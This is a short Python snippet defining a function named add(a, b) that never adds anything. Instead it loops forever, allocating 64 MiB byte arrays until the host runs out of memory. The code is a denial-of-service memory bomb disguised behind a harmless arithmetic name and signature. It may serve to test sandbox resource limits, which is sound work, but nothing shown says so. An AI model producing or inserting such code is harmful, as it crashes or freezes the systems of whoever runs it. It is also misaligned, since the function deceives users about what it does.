def add(a, b):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
